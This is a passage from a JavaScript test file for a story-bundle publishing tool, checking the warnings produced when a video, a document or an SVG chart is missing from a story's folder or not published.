      `clip.mp4 is not in the story's folder ${BUNDLE}/: its page would show a broken video or audio at /${FLOOD_DIR}clip.mp4.`,
      `minutes.docx is not in the story's folder ${BUNDLE}/: its page would show a broken link to a file at /${FLOOD_DIR}minutes.docx.`,
      `chart.svg is in the story's folder ${BUNDLE}/ but is not published (a page bundle publishes only photos, video, audio, captions and documents): its page would show a broken photo at /${FLOOD_DIR}chart.svg.`,
    ]);
    expect(s.diagnostics.map((d) => [d.code, d.file])).toContainEqual(['NOT_PUBLISHED', `${BUNDLE}/chart.svg`]);
  });
});
